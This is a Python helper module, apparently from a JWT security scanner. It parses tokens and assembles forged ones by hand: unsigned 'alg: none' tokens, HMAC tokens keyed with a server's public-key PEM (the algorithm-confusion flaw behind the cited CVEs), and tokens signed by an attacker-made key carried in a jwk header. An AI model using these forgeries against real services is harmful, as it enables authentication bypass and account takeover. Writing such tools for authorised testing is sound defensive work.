"""Just enough JOSE to take tokens apart and forge the ones attackers forge.

PyJWT refuses to produce most of these on purpose (``alg: nOnE``, an HMAC
keyed with a public key, RFC 7515 §4.1.3 ``jwk`` headers signed by the
attacker's key), so the forgeries are assembled by hand here.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from dataclasses import dataclass
from typing import Any

_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64url(data: bytes) -> str:
    """Base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def unb64url(text: str) -> bytes:
    """Inverse of :func:`b64url`."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _segment(value: dict[str, Any]) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode())


@dataclass(frozen=True)
class Jwt:
    """A compact JWS taken apart without verifying anything."""

    header: dict[str, Any]
    claims: dict[str, Any]
    signing_input: bytes
    signature: bytes

    @property
    def alg(self) -> str:
        """The header's ``alg``."""
        return str(self.header.get("alg", ""))


def parse(token: str) -> Jwt | None:
    """The token's parts, or ``None`` when it is not a compact JWS with JSON parts."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header = json.loads(unb64url(parts[0]))
        claims = json.loads(unb64url(parts[1]))
        signature = unb64url(parts[2])
    except ValueError:
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        return None
    return Jwt(header, claims, f"{parts[0]}.{parts[1]}".encode("ascii"), signature)


def hmac_signature(alg: str, key: bytes, signing_input: bytes) -> bytes:
    """The HS256/384/512 MAC of ``signing_input``."""
    return hmac.new(key, signing_input, _HMAC[alg]).digest()


def is_hmac(alg: str) -> bool:
    """Whether ``alg`` is one of the HMAC algorithms."""
    return alg in _HMAC


def unsigned(header: dict[str, Any], claims: dict[str, Any], signature: str = "") -> str:
    """A token with the given parts and a literal signature segment."""
    return f"{_segment(header)}.{_segment(claims)}.{signature}"


def sign_hmac(header: dict[str, Any], claims: dict[str, Any], key: bytes) -> str:
    """A token MACed with ``key`` under ``header['alg']`` (an HS* algorithm)."""
    signing_input = f"{_segment(header)}.{_segment(claims)}".encode("ascii")
    mac = hmac_signature(str(header["alg"]), key, signing_input)
    return f"{signing_input.decode('ascii')}.{b64url(mac)}"


def sign_es256(header: dict[str, Any], claims: dict[str, Any], private_key: Any) -> str:
    """A token signed ES256 by ``private_key`` (a cryptography EC key)."""
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

    signing_input = f"{_segment(header)}.{_segment(claims)}".encode("ascii")
    der = private_key.sign(signing_input, ec.ECDSA(hashes.SHA256()))
    r, s = decode_dss_signature(der)
    raw = r.to_bytes(32, "big") + s.to_bytes(32, "big")
    return f"{signing_input.decode('ascii')}.{b64url(raw)}"


def new_ec_key() -> tuple[Any, dict[str, str]]:
    """A fresh P-256 key pair: the private key and its public JWK (RFC 7518 §6.2)."""
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    numbers = key.public_key().public_numbers()
    jwk = {
        "kty": "EC",
        "crv": "P-256",
        "x": b64url(numbers.x.to_bytes(32, "big")),
        "y": b64url(numbers.y.to_bytes(32, "big")),
    }
    return key, jwk


def public_key_pems(jwk: dict[str, Any]) -> list[bytes]:
    """PEM encodings of a public JWK, the bytes a confused verifier uses as HMAC key.

    Libraries that take "the key" for every algorithm (CVE-2015-9235 in
    node-jsonwebtoken, CVE-2022-29217 in PyJWT) MAC with the PEM text,
    with or without its final newline.
    """
    from cryptography.hazmat.primitives import serialization
    from jwt.algorithms import ECAlgorithm, OKPAlgorithm, RSAAlgorithm

    kty = jwk.get("kty")
    text = json.dumps(jwk)
    loaders: dict[str, Any] = {"RSA": RSAAlgorithm, "EC": ECAlgorithm, "OKP": OKPAlgorithm}
    loader = loaders.get(str(kty))
    if loader is None:
        return []
    try:
        key = loader.from_jwk(text)
        public = key.public_key() if hasattr(key, "private_bytes") else key
        pem: bytes = public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    except Exception:
        return []
    return [pem, pem.rstrip(b"\n")]
